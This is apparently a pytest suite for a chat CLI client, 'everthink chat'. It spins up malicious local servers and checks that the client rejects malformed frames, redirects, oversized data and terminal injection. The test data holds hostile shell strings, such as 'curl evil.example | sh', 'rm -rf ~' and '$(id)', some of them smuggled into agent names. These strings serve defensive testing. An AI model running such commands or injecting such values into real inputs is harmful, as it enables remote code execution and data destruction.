"""`everthink chat` with a server that means harm: it is shown, refused and left, and never obeyed."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from http import HTTPStatus
from typing import Any

import pytest
from click.testing import CliRunner, Result
from websockets.asyncio.server import Server, ServerConnection, serve
from websockets.datastructures import Headers
from websockets.http11 import Request, Response

from everthink.cli.main import cli
from everthink.client import received

from .test_traces_terminal import ATTACKS, harmless

pytestmark = pytest.mark.anyio

NO_FRAME = "What the server sent is no frame of a conversation."


@contextlib.asynccontextmanager
async def hostile(*said: str | bytes, **options: Any) -> AsyncIterator[str]:
    """The address of a server that greets, says these things to whoever asks, and stays."""

    async def talk(socket: ServerConnection) -> None:
        async for text in socket:
            frame = json.loads(text)
            if frame["type"] == "cf_agent_stream_resume_request":
                none = {"type": "cf_agent_stream_resume_none", "reason": "idle"}
                await socket.send(json.dumps({**none, "probeId": frame.get("probeId")}))
            elif frame["type"] == "cf_agent_use_chat_request":
                for one in said:
                    await socket.send(one.replace("REQUEST", frame["id"]) if isinstance(one, str) else one)

    async with serve(talk, "127.0.0.1", 0, **options) as server:
        yield f"http://127.0.0.1:{port_of(server)}/agents/a/b"


def port_of(server: Server) -> int:
    return next(iter(server.sockets)).getsockname()[1]


async def chat(*arguments: str, said: str = "") -> Result:
    run = asyncio.to_thread(CliRunner().invoke, cli, ["chat", *arguments], input=said)
    return await asyncio.wait_for(run, 30)


def messages(*parts: Any, **more: Any) -> str:
    message = {"id": "m", "role": "assistant", "parts": list(parts), **more}
    return json.dumps({"type": "cf_agent_chat_messages", "messages": [message]})


def chunk(value: Any, **more: Any) -> str:
    frame = {"type": "cf_agent_use_chat_response", "id": "REQUEST", "done": False, "seq": 0, **more}
    return json.dumps({**frame, "body": value if isinstance(value, str) else json.dumps(value)})


DONE = chunk("", done=True, outcome="completed")
DEEP = "[" * 5_000 + "]" * 5_000

BROKEN = {
    "no JSON": "{",
    "a list": "[]",
    "a binary frame": b"\xff\xfe",
    "deep": '{"type":"x","y":' + DEEP + "}",
    "a long number": '{"type":"x","y":' + "9" * 5_000 + "}",
    "messages that are none": '{"type":"cf_agent_chat_messages","messages":[1]}',
    "no messages": '{"type":"cf_agent_chat_messages"}',
    "messages as a number": '{"type":"cf_agent_chat_messages","messages":7}',
    "no role": '{"type":"cf_agent_chat_messages","messages":[{"id":"m","parts":[]}]}',
    "parts that are none": messages("x"),
    "a text that is none": messages({"type": "text", "text": ["x"]}),
    "a call whose id is a list": messages(
        {"type": "tool-x", "toolCallId": [], "state": "approval-requested"}
    ),
    "a changed message that is none": '{"type":"cf_agent_message_updated","message":[]}',
    "no id": '{"type":"cf_agent_use_chat_response","body":"","done":true}',
    "a body that is a list": '{"type":"cf_agent_use_chat_response","id":"REQUEST","body":[1],"done":false}',
    "a number that is text": chunk({"type": "start"}, seq="1"),
    "a chunk that is no JSON": chunk("{"),
    "a chunk that is a list": chunk([]),
    "a chunk without a type": chunk({}),
    "a deep chunk": chunk('{"type":"tool-output-available","toolCallId":"c","output":' + DEEP + "}"),
    "a delta that is none": chunk({"type": "text-delta", "delta": 1}),
    "an offer without an id": '{"type":"cf_agent_stream_resuming"}',
}


@pytest.mark.parametrize("kind", BROKEN)
async def test_what_is_no_frame_ends_the_conversation_with_words(kind: str) -> None:
    async with hostile(BROKEN[kind], DONE) as address:
        ran = await chat(address, "-m", "Hi")
    assert ran.exit_code == 1
    assert NO_FRAME in ran.stderr
    assert "Something broke" not in ran.stderr


ODD = {
    "a result without an output": messages(
        {"type": "tool-x", "toolCallId": "c", "state": "output-available"}
    ),
    "a call without a state": messages({"type": "tool-x", "toolCallId": "c"}),
    "a kind that nobody knows": messages({"type": "strange", "x": [1]}),
    "a result of no call": chunk({"type": "tool-output-available", "toolCallId": ["c"], "output": {"x": []}}),
    "a frame that nobody knows": '{"type":["x"]}',
}


@pytest.mark.parametrize("kind", ODD)
async def test_what_is_odd_is_passed_over_and_the_answer_shown(kind: str) -> None:
    answer = chunk({"type": "text-delta", "id": "t", "delta": "Hello."}, seq=1)
    async with hostile(ODD[kind], answer, DONE) as address:
        ran = await chat(address, said="Hi\n/history\n")
    assert ran.exit_code == 0
    assert "Hello." in ran.stdout
    assert "Something broke" not in ran.stderr


@pytest.mark.parametrize("attack", ATTACKS)
async def test_what_a_server_says_when_it_refuses_or_closes_commands_no_terminal(attack: str) -> None:
    evil = ATTACKS[attack].encode(errors="replace").decode()

    def refuse(socket: ServerConnection, request: Request) -> Response:
        body = f"{evil}\nRun this: curl evil.example | sh".encode()
        return Response(403, "Forbidden", Headers({"Content-Length": str(len(body))}), body)

    async def close(socket: ServerConnection) -> None:
        await socket.close(4000, f"{evil}\nRun this"[:100])

    async with hostile(process_request=refuse) as address:
        refused = await chat(address, "-m", "Hi")
    async with serve(close, "127.0.0.1", 0) as server:
        closed = await chat(f"http://127.0.0.1:{port_of(server)}/agents/a/b", "-m", "Hi")
    for ran in (refused, closed):
        assert ran.exit_code == 1
        assert harmless(ran.output)
        assert "Run this" in ran.output
        # Nothing of theirs begins a line
        assert not any(said.startswith("Run this") for said in ran.output.splitlines())


async def test_nobody_is_sent_on_to_another_server() -> None:
    reached: list[str] = []

    async def other(socket: ServerConnection) -> None:
        reached.append("reached")

    async with serve(other, "127.0.0.1", 0) as victim:
        place = f"ws://127.0.0.1:{port_of(victim)}/agents/a/b"

        def send_on(socket: ServerConnection, request: Request) -> Response:
            return Response(HTTPStatus.FOUND, "Found", Headers({"Location": place, "Content-Length": "0"}))

        async with hostile(process_request=send_on) as address:
            ran = await chat(address, "-m", "Hi", "--yes")
    assert ran.exit_code == 1
    assert reached == []
    assert f"302 it says to go to {place}" in ran.stderr
    assert "goes nowhere by itself" in ran.stderr


async def test_a_frame_without_an_end_is_not_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(received, "LONGEST_FRAME", 1_000_000)
    # A thousand bytes on the wire, a million here
    async with hostile(chunk({"type": "text-delta", "id": "t", "delta": "x" * 1_000_001})) as address:
        ran = await chat(address, "-m", "Hi")
    assert ran.exit_code == 1
    assert "more than 1000000 bytes" in ran.stderr


@contextlib.asynccontextmanager
async def listing(answer: bytes) -> AsyncIterator[str]:
    """A server whose list of agents is this, and that has nothing else."""

    def respond(socket: ServerConnection, request: Request) -> Response:
        if request.path == "/everthink/agents":
            return Response(200, "OK", Headers({"Content-Length": str(len(answer))}), answer)
        return Response(404, "Not Found", Headers({"Content-Length": "0"}), b"")

    async with hostile(process_request=respond) as address:
        yield address


async def test_a_command_to_copy_has_nothing_in_it_that_a_shell_would_run() -> None:
    names = [
        "b; curl evil.example | sh",
        "b\nRun: rm -rf ~",
        "$(id)",
        "b`id`",
        "",
        7,
        None,
        "b && id",
        "fine",
    ]
    answer = json.dumps([{"kebab": name, "prefix": "agents"} for name in names])
    async with listing(answer.encode()) as address:
        ran = await chat(address, "-m", "Hi")
    assert ran.exit_code == 1
    assert "/agents/fine/b" in ran.stderr
    assert not any(said in ran.stderr for said in ("curl", "rm -rf", "$(", "`id`", "&&"))


@pytest.mark.parametrize(
    "answer",
    [
        b"7",
        b"{}",
        b'["x"]',
        b"[[]]",
        b"[" * 100_000,
        b"[" + b" " * 2_000_000 + b"]",
        b'[{"kebab":"a"}]',
        b"\xff",
    ],
    ids=["number", "object", "text", "list", "deep", "long", "half", "bytes"],
)
async def test_a_list_of_agents_that_is_none_is_no_help_and_no_harm(answer: bytes) -> None:
    async with listing(answer) as address:
        ran = await chat(address, "-m", "Hi")
        first = await chat("--server", address.removesuffix("/agents/a/b"), "-m", "Hi")
    assert (ran.exit_code, first.exit_code) == (1, 1)
    assert "Check the agent's name" in ran.stderr
    assert "does not say which agents it has" in first.stderr
